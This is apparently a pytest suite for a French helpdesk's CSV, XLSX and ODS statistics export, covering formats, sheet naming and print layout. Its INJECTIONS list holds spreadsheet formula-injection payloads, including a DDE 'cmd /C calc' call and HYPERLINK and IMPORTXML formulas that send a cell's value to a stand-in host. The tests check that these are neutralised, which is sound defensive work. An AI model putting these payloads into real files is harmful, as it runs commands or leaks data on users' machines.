"""Tables as files: read back by other programs than those that wrote them."""

import io
import re
import shutil
import subprocess
import weakref
import zipfile
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from helpdesk import clock
from helpdesk.stats.exporting.cells import TEXT_MAX_UNITS, cell_of, clean, is_like_a_formula
from helpdesk.stats.exporting.formats import FileFormat
from helpdesk.stats.exporting.sheets import NAME_MAX_CHARS, sheet_names
from helpdesk.stats.exporting.writing import write_to
from helpdesk.stats.tables import Column, Kind, Row, Table, Untold, Value
from helpdesk.stats.views.files import file_of

SPREADSHEETS = (FileFormat.XLSX, FileFormat.ODS)
SOFFICE = shutil.which("soffice")

every_spreadsheet = pytest.mark.parametrize("file_format", SPREADSHEETS)

INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u202f=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2066=1+1\u2069",
    "\u2069=1+1",
    "\u180e=1+1",
    "\ufe0f=1+1",
    "\u2800=1+1",
    '"=1+1',
    "'=1+1",
    ' "=1+1"',
    "« =1+1 »",
    "=1+1",
    "+1",
    "-1",
    "@A1",
    "\x00=1+1",
    "\x0b=1+1",
    '=HYPERLINK("http://ailleurs.test/?x="&A1,"Cliquez")',
    '=IMPORTXML(CONCAT("http://ailleurs.test/?v=",A1),"//a")',
    '=DDE("cmd","/C calc","x")',
    "=WEBSERVICE(A1)",
]
HARMLESS = ["Rupture d’un CDDI", "5 jours", "« Oui »", "(=1+1)", "a=b", "", "L’article L. 5132-15", "100 % = tout"]
MARKUP = [
    "<r><t>gras</t></r>",
    "<r>&</r>",
    "a<b>&amp;'\"",
    "http://ailleurs.test/",
    "mailto:a@b.test",
    "_x0041_",
    "]]>",
]


def write(book: Sequence[Table], file_format: FileFormat, *, title: str) -> bytes:
    """What the file holds."""
    file = io.BytesIO()
    write_to(file, book, file_format, title=title)
    return file.getvalue()


def table(*rows: tuple[Value, ...], kinds: tuple[Kind, ...] = (Kind.TEXT,), **changes: Any) -> Table:
    columns = tuple(Column(f"c{place}", f"Colonne {place}", kind) for place, kind in enumerate(kinds, start=1))
    lines = tuple(Row(str(number), f"Ligne {number}", values) for number, values in enumerate(rows, start=1))
    values: dict[str, Any] = {"key": "par-region", "title": "Par région", "head": "Région"} | changes
    return Table(columns=columns, rows=lines, **values)


def read(content: bytes) -> dict[str, list[list[Any]]]:
    """Every sheet, by its name, as calamine reads it."""
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: workbook.get_sheet_by_name(name).to_python() for name in workbook.sheet_names}


def read_one(content: bytes) -> list[list[Any]]:
    return next(iter(read(content).values()))


def csv_of(*book: Table) -> str:
    return write(book, FileFormat.CSV, title="Délais").decode()


FIGURES = table(
    (1200, 5.5, 0.8833, date(2026, 12, 31), datetime(2026, 7, 1, 22, 30, tzinfo=UTC), "En ligne"),
    (-3, 6, 1.0, date(2024, 2, 29), datetime(2026, 12, 31, 23, 15, tzinfo=UTC), "Téléphone ; courriel"),
    (Untold.FEW, Untold.TOO_FEW_ANSWERS, None, None, None, None),
    kinds=(Kind.COUNT, Kind.DAYS, Kind.SHARE, Kind.DAY, Kind.MOMENT, Kind.TEXT),
)


# --- CSV


def test_a_csv_is_what_a_french_spreadsheet_opens_at_a_double_click() -> None:
    content = write([FIGURES], FileFormat.CSV, title="Délais")
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig").split("\r\n") == [
        '"Région";"Colonne 1";"Colonne 2";"Colonne 3";"Colonne 4";"Colonne 5";"Colonne 6"',
        '"Ligne 1";1200;5,5;88,3%;31/12/2026;02/07/2026 00:30;"En ligne"',
        '"Ligne 2";-3;6,0;100,0%;29/02/2024;01/01/2027 00:15;"Téléphone ; courriel"',
        '"Ligne 3";"moins de 5";"moins de 10 réponses";;;;',
        "",
    ]


def test_several_tables_in_csv_are_an_archive_of_one_file_each() -> None:
    book = [table(("a",)), table(("b",), key="par thème/1"), table(("c",), key="PAR-REGION", note="Une note.")]
    with zipfile.ZipFile(io.BytesIO(write(book, FileFormat.CSV, title="Délais"))) as archive:
        assert archive.testzip() is None
        assert archive.namelist() == ["par-region.csv", "par-th-me-1.csv", "PAR-REGION-2.csv", "notes.csv"]
        assert all(archive.read(name).startswith(b"\xef\xbb\xbf") for name in archive.namelist())
        assert '"Par région";"Une note."' in archive.read("notes.csv").decode()


@pytest.mark.parametrize("text", INJECTIONS)
def test_nothing_that_begins_like_a_formula_is_left_bare_in_a_csv(text: str) -> None:
    assert is_like_a_formula(clean(text))
    line = csv_of(table((text,))).split("\r\n")[1]
    assert line.startswith('"Ligne 1";"\'')


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_is_left_as_it_is_in_a_csv(text: str) -> None:
    assert csv_of(table((text,))).split("\r\n")[1] == f'"Ligne 1";"{text}"'


def test_labels_and_headings_are_neutralised_too() -> None:
    bad = Table("k", "T", "=A1", (Column("c", "+1", Kind.TEXT),), (Row("r", "@x", ("-y",)),))
    assert csv_of(bad).split("\r\n")[:2] == ['\ufeff"\'=A1";"\'+1"', '"\'@x";"\'-y"']


@given(st.text(alphabet=st.one_of(st.sampled_from("=+-@;,\"'\t\r\n ＝«"), st.characters())))
def test_whatever_the_text_it_stays_in_its_cell_and_on_its_line(text: str) -> None:
    content = csv_of(table((text, "fin"), kinds=(Kind.TEXT, Kind.TEXT)))
    _head, line, rest = content.split("\r\n")
    assert rest == ""
    assert re.fullmatch(r'"Ligne 1";"(?:[^"]|"")*";"fin"', line, re.DOTALL)
    inside = line[len('"Ligne 1";"') : -len('";"fin"')].replace('""', '"')
    assert inside.startswith("'") or not is_like_a_formula(inside)


# --- XLSX and ODS


@every_spreadsheet
def test_numbers_shares_and_dates_are_numbers_and_dates(file_format: FileFormat) -> None:
    assert read_one(write([FIGURES], file_format, title="Délais"))[1:] == [
        ["Ligne 1", 1200.0, 5.5, 0.8833, date(2026, 12, 31), datetime.fromisoformat("2026-07-02T00:30"), "En ligne"],
        [
            "Ligne 2",
            -3.0,
            6.0,
            1.0,
            date(2024, 2, 29),
            datetime.fromisoformat("2027-01-01T00:15"),
            "Téléphone ; courriel",
        ],
        ["Ligne 3", "moins de 5", "moins de 10 réponses", "", "", "", ""],
    ]


@every_spreadsheet
def test_a_text_is_a_text_whatever_it_looks_like(file_format: FileFormat) -> None:
    texts = [*INJECTIONS, *HARMLESS, *MARKUP]
    content = write([table(*((text,) for text in texts))], file_format, title="Délais")
    found = [row[1] for row in read_one(content)[1:]]
    tabs = {"\t": " "} if file_format is FileFormat.ODS else {}
    expected = [clean(text).translate(str.maketrans(tabs)) for text in texts]
    assert [one.rstrip(" ") for one in found] == [one.rstrip(" ") for one in expected]
    assert formulas_and_links(content) == []


def formulas_and_links(content: bytes) -> list[str]:
    """Every element and attribute of the file that would compute something or lead elsewhere."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            for element in ET.fromstring(archive.read(name)).iter():  # noqa: S314 (written here)
                tag = element.tag.rpartition("}")[2]
                if tag in {"f", "hyperlink", "hyperlinks", "a", "externalLink", "event-listener", "script"}:
                    found.append(f"{name}: {tag}")
                found += [f"{name}: {key}" for key in element.attrib if key.endswith(("}formula", "}href"))]
                found += [f"{name}: external" for value in element.attrib.values() if value == "External"]
    return found


@every_spreadsheet
@given(text=st.text(max_size=60))
def test_any_text_makes_a_file_that_opens(file_format: FileFormat, text: str) -> None:
    found = read_one(write([table((text,), title=text, note=text)], file_format, title=text))
    assert len(found) == 2
    assert found[1][0] == "Ligne 1"


@every_spreadsheet
@pytest.mark.parametrize("text", ["é" * 50_000, "😀" * 50_000, "a" + "😀" * 20_000])
def test_a_text_too_long_for_excel_is_cut_and_says_so(file_format: FileFormat, text: str) -> None:
    found = read_one(write([table((text,))], file_format, title="Délais"))[1][1]
    assert found.endswith(" […]")
    assert TEXT_MAX_UNITS - 1 <= len(found.encode("utf-16-le")) // 2 <= TEXT_MAX_UNITS


def test_a_text_just_short_enough_is_left_whole() -> None:
    assert clean("é" * TEXT_MAX_UNITS) == "é" * TEXT_MAX_UNITS


@every_spreadsheet
def test_each_table_has_a_sheet_and_the_last_one_explains_them(file_format: FileFormat) -> None:
    title = "Délais par délégation : la liste complète de l’année 2026"
    found = read(write([table(("a",), title=title, note="Au 22 novembre."), table(("b",))], file_format, title="X"))
    assert list(found) == ["Délais par délégation la…", "Par région", "Notes"]
    assert found["Notes"] == [
        ["Feuille", "Titre", "Note"],
        ["Délais par délégation la…", title, "Au 22 novembre."],
        ["Par région", "Par région", ""],
    ]


@every_spreadsheet
def test_a_table_that_its_sheet_says_whole_needs_no_explanation(file_format: FileFormat) -> None:
    assert list(read(write([table(("a",))], file_format, title="X"))) == ["Par région"]


@every_spreadsheet
def test_a_table_without_rows_still_has_its_heading(file_format: FileFormat) -> None:
    assert read_one(write([table()], file_format, title="X")) == [["Région", "Colonne 1"]]
    assert csv_of(table()) == '\ufeff"Région";"Colonne 1"\r\n'


def test_the_heading_is_bold_and_stays_in_sight() -> None:
    with zipfile.ZipFile(io.BytesIO(write([FIGURES], FileFormat.XLSX, title="Délais & <suites>"))) as archive:
        sheet, styles = archive.read("xl/worksheets/sheet1.xml").decode(), archive.read("xl/styles.xml").decode()
        assert 'ySplit="1"' in sheet
        assert 'state="frozen"' in sheet
        assert "<b/>" in styles
        assert 'formatCode="dd/mm/yyyy hh:mm"' in styles
        assert "Délais &amp; &lt;suites&gt;" in archive.read("docProps/core.xml").decode()
    with zipfile.ZipFile(io.BytesIO(write([FIGURES], FileFormat.ODS, title="Délais & <suites>"))) as archive:
        assert archive.infolist()[0].filename == "mimetype"
        assert archive.infolist()[0].compress_type == zipfile.ZIP_STORED
        assert '"VerticalSplitPosition" config:type="int">1<' in archive.read("settings.xml").decode()
        assert 'fo:font-weight="bold"' in archive.read("content.xml").decode()
        assert "Délais &amp; &lt;suites&gt;" in archive.read("meta.xml").decode()


def test_headings_stand_over_their_columns_and_days_in_the_middle() -> None:
    with zipfile.ZipFile(io.BytesIO(write([FIGURES], FileFormat.XLSX, title="Délais"))) as archive:
        sheet, styles = archive.read("xl/worksheets/sheet1.xml").decode(), archive.read("xl/styles.xml").decode()
    written = re.findall(r"<xf .*?(?:/>|</xf>)", styles.partition("<cellXfs")[2])
    for row in ("1", "2"):
        asked = [written[int(style)] for style in re.findall(rf'<c r="[A-Z]{row}" s="(\d+)"', sheet)]
        found = [re.findall(r'horizontal="(\w+)"', one)[0] for one in asked]
        assert found == ["left", *["right"] * 3, *["center"] * 2, "left"]
    with zipfile.ZipFile(io.BytesIO(write([FIGURES], FileFormat.ODS, title="Délais"))) as archive:
        head = archive.read("content.xml").decode().partition("</table:table-header-rows>")[0]
    styles_of = re.findall(r'<table:table-cell table:style-name="head-(\w+)"', head)
    assert styles_of == ["start", *["end"] * 3, *["center"] * 2, "start"]


LONG = "Une phrase de dix mots, qui en fait cent signes. " * 20
PAPERS = {
    "upright": table((1, "a"), kinds=(Kind.COUNT, Kind.TEXT)),
    "side": table(("x" * 55, "y" * 55), kinds=(Kind.TEXT, Kind.TEXT)),
    "two": table(tuple("x" * 55 for _ in range(6)), kinds=(Kind.TEXT,) * 6),
}


@pytest.mark.parametrize(
    ("paper", "is_upright", "across"), [("upright", True, 1), ("side", False, 1), ("two", False, 2)]
)
def test_a_sheet_prints_on_a4_as_wide_as_it_is_with_its_head_on_each_page(
    paper: str, is_upright: bool, across: int
) -> None:
    with zipfile.ZipFile(io.BytesIO(write([PAPERS[paper]], FileFormat.XLSX, title="Délais & suites " * 40))) as archive:
        sheet, book = archive.read("xl/worksheets/sheet1.xml").decode(), archive.read("xl/workbook.xml").decode()
    assert 'paperSize="9"' in sheet
    assert ('orientation="landscape"' not in sheet) == is_upright
    assert "fitToPage" in sheet
    assert ('fitToWidth="2"' in sheet) == (across == 2)
    assert 'fitToHeight="0"' in sheet
    assert "Délais &amp;&amp; suites" in sheet
    assert "&amp;P / &amp;N" in sheet
    titles = re.findall(r'_xlnm.Print_Titles".*?>(.*?)<', book)
    assert titles == ["'Par région'!$A:$A,'Par région'!$1:$1" if across == 2 else "'Par région'!$1:$1"]


@pytest.mark.parametrize(
    ("paper", "size", "across"),
    [("upright", ("21cm", "29.7cm"), "1"), ("side", ("29.7cm", "21cm"), "1"), ("two", ("29.7cm", "21cm"), "2")],
)
def test_an_ods_prints_by_the_same_rules(paper: str, size: tuple[str, str], across: str) -> None:
    with zipfile.ZipFile(io.BytesIO(write([PAPERS[paper]], FileFormat.ODS, title="Délais & suites"))) as archive:
        content, styles = (
            ET.fromstring(archive.read(name))  # noqa: S314 (written by us)
            for name in ("content.xml", "styles.xml")
        )
    [sheet] = content.iterfind(".//{*}table")
    [style] = [one for one in content.iterfind(".//{*}style") if name_of(one) == value_of(sheet, "style-name")]
    [master] = [
        one for one in styles.iterfind(".//{*}master-page") if name_of(one) == value_of(style, "master-page-name")
    ]
    [layout] = [
        one for one in styles.iterfind(".//{*}page-layout") if name_of(one) == value_of(master, "page-layout-name")
    ]
    properties = layout[0]
    assert (value_of(properties, "page-width"), value_of(properties, "page-height")) == size
    assert (value_of(properties, "scale-to-X"), value_of(properties, "scale-to-Y")) == (across, "0")
    assert value_of(properties, "first-page-number") == "continue"
    assert "".join(master[0].itertext()) == "Délais & suites"
    assert [one.tag.partition("}")[2] for one in master[1].iter() if len(one) == 0] == [
        "sheet-name",
        "page-number",
        "page-count",
    ]
    assert len(sheet.findall("{*}table-header-rows/{*}table-row")) == 1
    assert len(sheet.findall("{*}table-header-columns/{*}table-column")) == 1


def name_of(element: ET.Element) -> str:
    return value_of(element, "name")


def value_of(element: ET.Element, name: str) -> str:
    """Of the attribute, whatever its namespace."""
    [value] = [value for key, value in element.items() if key.rpartition("}")[2] == name]
    return value


def test_a_text_too_long_for_its_column_goes_on_below_in_a_row_as_high_as_it() -> None:
    book = [table((LONG,), ("court",))]
    with zipfile.ZipFile(io.BytesIO(write(book, FileFormat.XLSX, title="Délais"))) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    heights = [float(height) for height in re.findall(r'<row r="\d+"[^>]*? ht="([\d.]+)"', sheet)]
    assert heights == [15 * 15]
    with zipfile.ZipFile(io.BytesIO(write(book, FileFormat.ODS, title="Délais"))) as archive:
        content = archive.read("content.xml").decode()
    assert re.findall(r'<table:table-row table:style-name="(\w+)"', content) == ["r15", "r1"]
    assert 'table:style-name="text-start-wrapped"' in content


def test_a_naive_moment_is_refused() -> None:
    with pytest.raises(ValueError, match="naive"):
        cell_of(datetime(2026, 1, 1), Kind.MOMENT)  # noqa: DTZ001 (what is tested)


def test_a_moment_in_a_column_of_days_is_its_day_in_paris() -> None:
    cell = cell_of(datetime(2026, 12, 31, 23, 30, tzinfo=UTC), Kind.DAY)
    assert cell is not None
    assert cell.value == date(2027, 1, 1)


# --- names of sheets


@pytest.mark.parametrize(
    ("titles", "names"),
    [
        (["Par région", "par RÉGION", "Par région"], ["Par région", "par RÉGION (2)", "Par région (3)"]),
        (["a/b\\c:d*e?f[g]"], ["a b c d e f g"]),
        (["'=1+1'", "", "   ", "Notes"], ["=1+1", "Feuille", "Feuille (2)", "Notes (2)"]),
        (["x" * 40, "x" * 40], ["x" * 30 + "…", "x" * 26 + "… (2)"]),
    ],
)
def test_the_names_of_sheets_are_those_that_spreadsheets_take(titles: list[str], names: list[str]) -> None:
    assert sheet_names(titles) == names


@given(st.lists(st.text(max_size=50), max_size=12))
def test_any_titles_make_valid_and_distinct_names(titles: list[str]) -> None:
    names = sheet_names(titles)
    assert len({name.casefold() for name in names} | {"notes"}) == len(titles) + 1
    for name in names:
        assert 0 < len(name.encode("utf-16-le")) // 2 <= NAME_MAX_CHARS
        assert not re.search(r"[\[\]:*?/\\]|^'|'$", name)


# --- one row after the other


class ManyRows:
    """A table of two thousand rows made on the way; *most*: how many of them have been in memory at once."""

    key, title, head, note = "beaucoup", "Beaucoup", "Ligne", ""
    columns = (Column("text", "Texte", Kind.TEXT),)

    def __init__(self) -> None:
        self.alive: weakref.WeakSet[Row] = weakref.WeakSet()
        self.most = 0

    @property
    def rows(self) -> Iterator[Row]:
        for number in range(2_000):
            row = Row(str(number), f"Ligne {number}", (f"Texte {number}",))
            self.alive.add(row)
            self.most = max(self.most, len(self.alive))
            yield row


@pytest.mark.parametrize("file_format", FileFormat)
def test_rows_read_on_the_way_are_not_kept(file_format: FileFormat) -> None:
    many, file = ManyRows(), io.BytesIO()
    write_to(file, [many], file_format, title="X")
    assert many.most < 10
    if file_format is not FileFormat.CSV:
        assert len(read_one(file.getvalue())) == 2_001


def test_figures_leave_as_they_may_be_told_outside(app: Flask) -> None:
    few = table((3,), (40,), (60,), kinds=(Kind.COUNT,))
    with app.test_request_context():
        response = file_of([few, few], FileFormat.CSV, name="delais", title="Délais")
        response.direct_passthrough = False
        with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
            lines = archive.read("par-region.csv").decode().splitlines()[1:]
        response.close()
    assert lines == ['"Ligne 1";"moins de 5"', '"Ligne 2";"non communiqué"', '"Ligne 3";60']
    assert response.content_type == "application/zip"
    assert response.headers["Content-Disposition"] == f"attachment; filename=delais-{clock.today()}.zip"


# --- LibreOffice, where it is installed; elsewhere there is nothing to skip, as another program has read the files


def opened(content: bytes, file_format: FileFormat, folder: Path) -> list[str]:
    """The lines that LibreOffice shows of each sheet, one sheet after the other."""
    source = folder / f"essai.{file_format.value}"
    source.write_bytes(content)
    every_sheet_as_shown = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,true,false,false,-1"
    profile = f"-env:UserInstallation={(folder / 'profil').as_uri()}"
    command = [str(SOFFICE), profile, "--headless", "--convert-to", every_sheet_as_shown, "--outdir", folder, source]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return [line for path in sorted(folder.glob("essai-*.csv")) for line in path.read_text().splitlines()]


if SOFFICE:

    @every_spreadsheet
    def test_libreoffice_opens_it_and_computes_nothing(file_format: FileFormat, tmp_path: Path) -> None:
        texts = [text for text in INJECTIONS if not {"\n", "\t"} & set(clean(text))]
        content = write([FIGURES, table(*((text,) for text in texts), title="Dangers")], file_format, title="Délais")
        lines = opened(content, file_format, tmp_path)
        dangers, figures = lines[1 : len(texts) + 1], lines[len(texts) + 2 :]
        shown = r"Ligne 1;1.200;5[.,]5;88[.,]3.%;31/12/2026;02/07/2026 00:30;En ligne"
        assert re.fullmatch(shown, figures[0])
        assert figures[2] == "Ligne 3;moins de 5;moins de 10 réponses;;;;"
        said = [line.partition(";")[2] for line in dangers]
        assert [one.strip('"').replace('""', '"') for one in said] == [clean(text).strip('"') for text in texts]
